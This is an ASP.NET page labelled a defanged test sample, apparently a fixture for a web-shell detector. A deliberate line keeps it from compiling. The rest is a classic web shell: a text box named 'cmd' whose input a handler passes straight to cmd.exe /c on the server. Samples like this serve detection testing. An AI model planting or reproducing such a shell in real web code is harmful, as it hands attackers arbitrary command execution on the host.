<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<form runat="server"><asp:TextBox ID="cmd" runat="server" /></form>
<script runat="server">
protected void Run(object s, EventArgs e) {
	System.Diagnostics.Process.Start("cmd.exe", "/c " + cmd.Text);
}
</script>
